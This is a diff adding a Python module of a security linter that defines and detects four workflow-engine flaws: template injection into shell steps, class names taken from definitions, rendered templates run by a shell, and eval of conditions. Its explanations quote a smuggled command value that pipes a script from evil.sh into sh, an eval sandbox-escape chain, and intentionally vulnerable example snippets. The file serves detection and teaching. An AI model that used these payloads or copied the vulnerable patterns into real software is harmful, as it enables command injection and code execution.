@@ -1,0 +1,583 @@
+"""Workflow definitions and templates: the rules, and the checks of engine code.
+
+WF001 and WF002 are reported by the text scanner (``redline.text.workflows``) on
+YAML, JSON and Jinja files; WF003 and WF004 read the Python engine that runs them.
+The framework knowledge (field names, template syntaxes, render and shell calls)
+lives in ``knowledge/workflows.toml``.
+"""
+
+from __future__ import annotations
+
+import ast
+import weakref
+from collections.abc import Iterator
+from dataclasses import dataclass
+from functools import cache
+
+from redline.knowledge import KnowledgeError, load_toml
+from redline.model import Area, Confidence, Severity
+from redline.rules.common import argument, is_const, is_literal, keyword
+from redline.rules.registry import check, define
+
+WF001 = define(
+    "WF001",
+    "workflow-shell-template-injection",
+    "Template variable interpolated into a shell command of a workflow",
+    area=Area.WORKFLOWS,
+    severity=Severity.CRITICAL,
+    confidence=Confidence.MEDIUM,
+    cwe=78,
+    what="""
+A template variable (`{{ ... }}`, `${{ ... }}`, `${inputs.x}`) inside a field that a
+shell runs in a workflow definition (a YAML or JSON file, or a YAML/JSON string
+literal given to `yaml.safe_load`/`json.loads` in Python), a CI workflow or a Jinja
+template of a script: `run`,
+`command`, `cmd`, `script`, `entrypoint`, `shell`, and argument lists after
+`sh -c` / `bash -c`. CRITICAL when the value comes from workflow inputs, event data
+(`github.event.issue.title`, `github.head_ref`) or the output of an earlier node;
+MEDIUM for other variables. Secrets, matrix entries and run ids are not reported.
+""",
+    why="""
+The variable is pasted into the script text before the shell parses it, so quotes
+do not protect it: a value such as `"; curl evil.sh | sh; "` ends the intended
+command and runs its own. Workflow inputs are typed by users, issue titles by
+anyone on the internet, and node outputs by a language model that a prompt
+injection can steer.
+""",
+    example='''
+    import yaml
+
+    WORKFLOW = yaml.safe_load("""
+    nodes:
+      - id: notes
+        type: shell
+        command: grep -ril "{{ inputs.query }}" /srv/notes
+    """)
+''',
+    use_instead='''
+    import yaml
+
+    WORKFLOW = yaml.safe_load("""
+    nodes:
+      - id: notes
+        type: shell
+        env:
+          QUERY: "{{ inputs.query }}"
+        command: grep -ril -- "$QUERY" /srv/notes
+    """)
+''',
+    recommendation=(
+        "Pass variables to the step as environment variables or as separate argv entries "
+        "(no shell), and reference them as quoted shell variables (\"$QUERY\"); never paste "
+        "template output into script text."
+    ),
+    references=(
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+        "https://cwe.mitre.org/data/definitions/78.html",
+    ),
+)
+
+WF002 = define(
+    "WF002",
+    "workflow-chooses-code",
+    "Workflow definition names Python code for the engine to import",
+    area=Area.WORKFLOWS,
+    severity=Severity.MEDIUM,
+    confidence=Confidence.MEDIUM,
+    cwe=470,
+    what="""
+A node of a workflow definition (a YAML or JSON file, or such a string literal
+loaded in Python) whose `type:`, `class:`, `_target_`
+or `handler:` is a dotted Python path such as `app.nodes.ToolNode`: the document,
+not the code, decides which class the engine imports and instantiates. Reported
+once per document, on the first such node.
+""",
+    why="""
+Whoever can write or upload a definition can name any importable callable
+(`subprocess.Popen`, `os.system`) with arguments of their choosing. Definitions
+travel through APIs, repositories and shared storage, so the set of people who can
+edit them is larger than the set who can change code.
+""",
+    example='''
+    import yaml
+
+    WORKFLOW = yaml.safe_load("""
+    nodes:
+      - id: fetch
+        type: app.workflow_engine.ToolNode
+    """)
+''',
+    use_instead='''
+    import yaml
+
+    WORKFLOW = yaml.safe_load("""
+    nodes:
+      - id: fetch
+        type: tool
+    """)
+''',
+    recommendation=(
+        "Give node types short names and resolve them through a registry the engine "
+        "fills itself (a dict of allowed classes); reject any type that is not registered."
+    ),
+    references=("https://cwe.mitre.org/data/definitions/470.html",),
+)
+
+WF003 = define(
+    "WF003",
+    "rendered-template-run-by-shell",
+    "Rendered template executed by a shell",
+    area=Area.WORKFLOWS,
+    severity=Severity.CRITICAL,
+    confidence=Confidence.MEDIUM,
+    cwe=78,
+    what="""
+Engine code that renders a template (jinja2 `render`, `string.Template.substitute`,
+`str.format` of a template held in data) and runs the result through a shell
+(`subprocess` with `shell=True`, `os.system`, `os.popen`). One finding names both
+steps. CRITICAL when the template text itself is data (a step command from a
+workflow definition), HIGH when only the variables vary.
+""",
+    why="""
+Template engines do not quote for the shell. Every variable (workflow inputs, the
+previous node's output, an LLM reply) becomes shell syntax, and a template that
+comes from a definition lets its author write the command outright.
+""",
+    example="""
+    import subprocess
+    from jinja2 import Template
+
+    def run_step(step, context):
+        command = Template(step["command"]).render(**context)
+        return subprocess.run(command, shell=True, capture_output=True, text=True)
+""",
+    use_instead="""
+    import subprocess
+
+    def run_step(step, context):
+        argv = [step["program"], *[str(context[name]) for name in step["args"]]]
+        return subprocess.run(argv, capture_output=True, text=True, timeout=60)
+""",
+    recommendation=(
+        "Build an argument list and run it without a shell; map step commands to "
+        "programs the engine allows, and pass variable values as separate argv entries "
+        "or environment variables. If a shell is unavoidable, shlex.quote every value before rendering."
+    ),
+    references=(
+        "https://docs.python.org/3/library/subprocess.html#security-considerations",
+        "https://cwe.mitre.org/data/definitions/78.html",
+    ),
+)
+
+WF004 = define(
+    "WF004",
+    "workflow-expression-eval",
+    "Workflow condition or expression evaluated with eval",
+    area=Area.WORKFLOWS,
+    severity=Severity.CRITICAL,
+    confidence=Confidence.MEDIUM,
+    cwe=95,
+    what="""
+A `condition`, `when`, `expression` or `if` string read from a workflow definition
+that reaches `eval`/`exec`, directly or through a home-made evaluator of the same
+module built on them. Reported where the field is read; when it is read inside the
+`eval` call itself, EXEC001 already reports that line. Evaluators that parse
+with `ast` and allow only listed node types, `ast.literal_eval` and `simpleeval`
+are not reported.
+""",
+    why="""
+A definition is data that users, API clients and other systems write. `eval`
+with emptied `__builtins__` is no sandbox: `().__class__.__mro__[1].__subclasses__()`
+reaches `os` and `subprocess` from any expression.
+""",
+    example="""
+    def should_run(node, context):
+        condition = node.get("condition", "True")
+        return eval(condition, {"__builtins__": {}}, context)
+""",
+    use_instead="""
+    from simpleeval import simple_eval
+
+    def should_run(node, context):
+        condition = node.get("condition", "True")
+        return simple_eval(condition, names=context)
+""",
+    recommendation=(
+        "Evaluate definition expressions with a safe evaluator: simpleeval, a small "
+        "grammar, or ast.parse plus an allowlist of node types (comparisons, boolean "
+        "operators, names, constants) walked before anything is evaluated."
+    ),
+    references=(
+        "https://github.com/danthedeckie/simpleeval",
+        "https://cwe.mitre.org/data/definitions/95.html",
+    ),
+)
+
+
+# -- knowledge ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class WorkflowKnowledge:
+    shell_fields: frozenset[str]
+    args_fields: frozenset[str]
+    shells: frozenset[str]
+    script_flags: frozenset[str]
+    code_loading: frozenset[str]
+    containers: frozenset[str]
+    expressions: frozenset[str]
+    syntaxes: tuple[str, ...]
+    quoting_filters: frozenset[str]
+    untrusted: tuple[str, ...]
+    upstream: tuple[str, ...]
+    fixed: tuple[str, ...]
+    github_untrusted: tuple[str, ...]
+    github_derived: tuple[str, ...]
+    render: frozenset[str]
+    render_methods: frozenset[str]
+    shell_kwarg: frozenset[str]
+    shell_always: frozenset[str]
+    safe_evaluators: frozenset[str]
+    code_runners: frozenset[str]
+
+
+@cache
+def knowledge() -> WorkflowKnowledge:
+    data = load_toml("workflows.toml")
+
+    def strings(table: str, key: str) -> tuple[str, ...]:
+        value = data.get(table, {}).get(key)
+        if not isinstance(value, list) or not all(isinstance(v, str) for v in value):
+            raise KnowledgeError(f"knowledge/workflows.toml: {table}.{key} must be a list of strings")
+        return tuple(value)
+
+    def lower(table: str, key: str) -> frozenset[str]:
+        return frozenset(v.lower() for v in strings(table, key))
+
+    return WorkflowKnowledge(
+        shell_fields=lower("fields", "shell"),
+        args_fields=lower("fields", "args"),
+        shells=lower("fields", "shells"),
+        script_flags=lower("fields", "script_flags"),
+        code_loading=lower("fields", "code_loading"),
+        containers=lower("fields", "containers"),
+        expressions=lower("fields", "expressions"),
+        syntaxes=strings("templates", "syntaxes"),
+        quoting_filters=lower("templates", "shell_quoting_filters"),
+        untrusted=strings("roots", "untrusted"),
+        upstream=strings("roots", "upstream"),
+        fixed=strings("roots", "fixed"),
+        github_untrusted=strings("github", "untrusted"),
+        github_derived=strings("github", "derived"),
+        render=frozenset(strings("python", "render")),
+        render_methods=frozenset(strings("python", "render_methods")),
+        shell_kwarg=frozenset(strings("python", "shell_kwarg")),
+        shell_always=frozenset(strings("python", "shell_always")),
+        safe_evaluators=frozenset(strings("python", "safe_evaluators")),
+        code_runners=frozenset(strings("python", "code_runners")),
+    )
+
+
+# -- helpers shared by the Python checks ---------------------------------------------------
+
+_NESTED = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.Lambda)
+
+
+def body_nodes(func: ast.FunctionDef | ast.AsyncFunctionDef) -> Iterator[ast.AST]:
+    """Every node of a function's body in source order, nested definitions excluded."""
+    stack: list[ast.AST] = list(reversed(func.body))
+    while stack:
+        node = stack.pop()
+        yield node
+        children = [c for c in ast.iter_child_nodes(node) if not isinstance(c, _NESTED)]
+        stack.extend(reversed(children))
+
+
+def function_text(ctx, func: ast.AST) -> str:
+    start = func.lineno - 1
+    end = getattr(func, "end_lineno", None) or func.lineno
+    return "\n".join(ctx.lines[start:end])
+
+
+def _names_in(node: ast.AST) -> set[str]:
+    return {n.id for n in ast.walk(node) if isinstance(n, ast.Name)}
+
+
+def _assigned_names(stmt: ast.AST) -> list[str]:
+    targets: list[ast.AST] = []
+    if isinstance(stmt, ast.Assign):
+        targets = stmt.targets
+    elif isinstance(stmt, (ast.AnnAssign, ast.AugAssign, ast.NamedExpr)) and stmt.value is not None:
+        targets = [stmt.target]
+    out = []
+    for t in targets:
+        for n in ast.walk(t):
+            if isinstance(n, ast.Name):
+                out.append(n.id)
+    return out
+
+
+# -- WF003: a rendered template run by a shell --------------------------------------------
+
+_SHELL_HINTS = ("shell=True", "system(", "popen(", "getoutput", "create_subprocess_shell", "pexpect")
+_RENDER_HINTS = ("render", "substitute", "format")
+
+
+@dataclass(frozen=True)
+class _Render:
+    line: int
+    what: str
+    template_is_data: bool
+
+
+def _render_call(ctx, node: ast.AST) -> _Render | None:
+    """``Template(x).render(...)``, ``env.from_string(x).render``, ``string.Template(x).substitute``,
+    ``template_text.format(**ctx)`` where the template is not a literal."""
+    if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
+        return None
+    k = knowledge()
+    method = node.func.attr
+    if method not in k.render_methods:
+        return None
+    receiver = node.func.value
+    qual = ctx.qualname(node.func)
+    if method in ("format", "format_map"):
+        if is_literal(receiver):
+            return None  # "ls {}".format(x): plain string building, INJ001's case
+        return _Render(node.lineno, f"str.{method}() of a template held in data", True)
+    template_is_data = True
+    if isinstance(receiver, ast.Call):
+        source = argument(receiver, 0, "source")
+        template_is_data = not is_literal(source) if source is not None else True
+    shown = qual or f"{ast.unparse(receiver)[:40]}.{method}"
+    known = qual is None or qual in k.render or qual.endswith(("Template.render", "Template.substitute"))
+    if not known and method not in ("render", "substitute", "safe_substitute"):
+        return None
+    return _Render(node.lineno, f"{shown}()", template_is_data)
+
+
+def _shell_command(ctx, node: ast.Call) -> tuple[str, ast.AST] | None:
+    k = knowledge()
+    name = ctx.qualname(node.func)
+    if name in k.shell_kwarg:
+        shell = keyword(node, "shell")
+        if shell is None or is_const(shell.value, False) or is_const(shell.value, None):
+            return None
+        command = argument(node, 0, "args")
+        return (f"{name}(..., shell=True)", command) if command is not None else None
+    if name in k.shell_always:
+        command = argument(node, 0, "cmd") or argument(node, 0, "command")
+        return (f"{name}()", command) if command is not None else None
+    return None
+
+
+@check(WF003, nodes=(ast.FunctionDef, ast.AsyncFunctionDef))
+def rendered_shell(ctx, func: ast.FunctionDef) -> None:
+    text = function_text(ctx, func)
+    if not any(h in text for h in _SHELL_HINTS) or not any(h in text for h in _RENDER_HINTS):
+        return
+    rendered: dict[str, _Render] = {}
+    shells: list[tuple[ast.Call, str, ast.AST]] = []
+    for node in body_nodes(func):
+        if isinstance(node, (ast.Assign, ast.AnnAssign, ast.AugAssign, ast.NamedExpr)) and node.value is not None:
+            found = _render_in(ctx, node.value, rendered)
+            for name in _assigned_names(node):
+                if found is not None:
+                    rendered[name] = found
+                elif not isinstance(node, ast.AugAssign):
+                    rendered.pop(name, None)
+        elif isinstance(node, ast.Call):
+            shell = _shell_command(ctx, node)
+            if shell is not None:
+                shells.append((node, *shell))
+    quoted = "shlex.quote" in text or "quote(" in text
+    for call, sink, command in shells:
+        found = _render_in(ctx, command, rendered)
+        if found is None:
+            continue
+        severity = Severity.CRITICAL if found.template_is_data else Severity.HIGH
+        message = f"{sink} runs a command rendered by {found.what} at line {found.line}"
+        if quoted:
+            severity = Severity.LOW
+            message += " (values are quoted with shlex.quote in this function: review)"
+        ctx.report(WF003, call, message, severity=severity)
+
+
+def _render_in(ctx, expr: ast.AST, rendered: dict[str, _Render]) -> _Render | None:
+    for node in ast.walk(expr):
+        if isinstance(node, ast.Name) and node.id in rendered:
+            return rendered[node.id]
+        found = _render_call(ctx, node)
+        if found is not None:
+            return found
+    return None
+
+
+# -- WF004: definition expressions evaluated with eval ------------------------------------
+
+_EVALUATORS: weakref.WeakKeyDictionary = weakref.WeakKeyDictionary()
+
+
+def _is_allowlist_evaluator(text: str) -> bool:
+    """ast.parse, then a walk that checks node types before anything runs."""
+    return "ast.parse" in text and ("ast.walk" in text or "visit_" in text or "generic_visit" in text) and (
+        "isinstance(" in text or "type(" in text
+    )
+
+
+def _code_runner_calls(ctx, func: ast.AST) -> Iterator[ast.Call]:
+    runners = knowledge().code_runners
+    for node in body_nodes(func):
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and ctx.qualname(node.func) in runners:
+            yield node
+
+
+@check(WF004, nodes=(ast.Module,))
+def home_made_evaluators(ctx, module: ast.Module) -> None:
+    """Functions of this module that eval() one of their parameters (not through an allowlist)."""
+    found: dict[str, int] = {}
+    if not any("eval(" in line or "exec(" in line for line in ctx.lines):
+        _EVALUATORS[ctx] = found
+        return
+    defs: list[ast.AST] = []
+    for stmt in module.body:
+        if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
+            defs.append(stmt)
+        elif isinstance(stmt, ast.ClassDef):
+            defs += [s for s in stmt.body if isinstance(s, (ast.FunctionDef, ast.AsyncFunctionDef))]
+    for func in defs:
+        params = [a.arg for a in (*func.args.posonlyargs, *func.args.args, *func.args.kwonlyargs)]
+        params = [p for p in params if p not in ("self", "cls")]
+        if not params:
+            continue
+        text = function_text(ctx, func)
+        if "eval(" not in text and "exec(" not in text or _is_allowlist_evaluator(text):
+            continue
+        derived = set(params)
+        for node in body_nodes(func):
+            assigns = isinstance(node, (ast.Assign, ast.AnnAssign, ast.NamedExpr)) and node.value is not None
+            if assigns and _names_in(node.value) & derived:
+                derived.update(_assigned_names(node))
+        for call in _code_runner_calls(ctx, func):
+            code = argument(call, 0, "source")
+            if code is not None and _names_in(code) & derived:
+                found[func.name] = call.lineno
+                break
+    _EVALUATORS[ctx] = found
+
+
+def _field_read(node: ast.AST, fields: frozenset[str]) -> str | None:
+    """``step["condition"]``, ``step.get("when")``, ``step.condition``, ``getattr(step, "if")``."""
+    if isinstance(node, ast.Subscript):
+        key = node.slice
+        if isinstance(key, ast.Constant) and isinstance(key.value, str) and key.value.lower() in fields:
+            return key.value
+    elif isinstance(node, ast.Call):
+        func = node.func
+        if isinstance(func, ast.Attribute) and func.attr in ("get", "pop") and node.args:
+            key = node.args[0]
+        elif isinstance(func, ast.Name) and func.id == "getattr" and len(node.args) >= 2:
+            key = node.args[1]
+        else:
+            return None
+        if isinstance(key, ast.Constant) and isinstance(key.value, str) and key.value.lower() in fields:
+            return key.value
+    elif isinstance(node, ast.Attribute) and isinstance(node.ctx, ast.Load) and node.attr.lower() in fields:
+        return node.attr
+    return None
+
+
+def _reads_in(expr: ast.AST, fields: frozenset[str]) -> list[tuple[ast.AST, str]]:
+    return [(n, f) for n in ast.walk(expr) if (f := _field_read(n, fields)) is not None]
+
+
+@check(WF004, nodes=(ast.FunctionDef, ast.AsyncFunctionDef))
+def definition_expression_eval(ctx, func: ast.FunctionDef) -> None:
+    evaluators = _EVALUATORS.get(ctx, {})
+    text = function_text(ctx, func)
+    if "eval(" not in text and "exec(" not in text and not any(f"{e}(" in text for e in evaluators):
+        return
+    if _is_allowlist_evaluator(text):
+        return
+    k = knowledge()
+    fields = k.expressions
+    tracked: dict[str, tuple[ast.AST, str]] = {}  # variable -> (read node, field)
+    reported: set[int] = set()
+    exec_enabled = "EXEC001" in ctx.settings.enabled
+    for node in body_nodes(func):
+        if isinstance(node, (ast.Assign, ast.AnnAssign, ast.NamedExpr)) and node.value is not None:
+            reads = _reads_in(node.value, fields)
+            if not reads:
+                names = _names_in(node.value) & tracked.keys()
+                reads = [tracked[n] for n in sorted(names)]
+            for name in _assigned_names(node):
+                if reads:
+                    tracked[name] = reads[0]
+                else:
+                    tracked.pop(name, None)
+            continue
+        if not isinstance(node, ast.Call):
+            continue
+        sink = _eval_sink(ctx, node, evaluators)
+        if sink is None:
+            continue
+        name, builtin = sink
+        code = argument(node, 0, "source") if builtin else (node.args[0] if node.args else None)
+        if code is None:
+            continue
+        reads = _reads_in(code, fields) + [tracked[n] for n in sorted(_names_in(code) & tracked.keys())]
+        for read, field in reads:
+            line = read.lineno
+            if line in reported or (builtin and exec_enabled and line == node.lineno):
+                continue  # EXEC001 reports this line already
+            reported.add(line)
+            how = f"{name}()" if builtin else f"{name}(), a home-made evaluator built on eval"
+            ctx.report(
+                WF004,
+                read,
+                f"workflow field {field!r} is evaluated as Python by {how} at line {node.lineno}",
+            )
+
+
+def _eval_sink(ctx, call: ast.Call, evaluators: dict[str, int]) -> tuple[str, bool] | None:
+    func = call.func
+    if isinstance(func, ast.Name):
+        qual = ctx.qualname(func)
+        if qual in knowledge().code_runners:
+            return qual, True
+        if func.id in evaluators:
+            return func.id, False
+    elif (
+        isinstance(func, ast.Attribute)
+        and isinstance(func.value, ast.Name)
+        and func.value.id in ("self", "cls")
+        and func.attr in evaluators
+    ):
+        return f"self.{func.attr}", False
+    return None
+
+
+# -- WF001/WF002 on definitions written inline in Python -----------------------------------
+
+
+@dataclass(frozen=True)
+class _At:
+    lineno: int
+    col_offset: int
+    end_lineno: int
+
+
+@check(WF001, WF002, calls=("yaml.safe_load", "yaml.load", "yaml.safe_load_all", "yaml.full_load", "json.loads"))
+def inline_definition(ctx, node: ast.Call) -> None:
+    """``yaml.safe_load(\"\"\"nodes: ...\"\"\")``: the text scanner reads the literal."""
+    from redline.text.workflows import definition_hits
+
+    text = argument(node, 0, "stream") or argument(node, 0, "s")
+    if not (isinstance(text, ast.Constant) and isinstance(text.value, str)):
+        return
+    if "\n" not in text.value and "{{" not in text.value and "${" not in text.value:
+        return
+    kind = "json" if (ctx.qualname(node.func) or "").startswith("json.") else "yaml"
+    for rule, line, col, severity, message in definition_hits(text.value, kind):
+        at = text.lineno + line - 1
+        ctx.report(rule, _At(at, col, at), message, severity=severity)
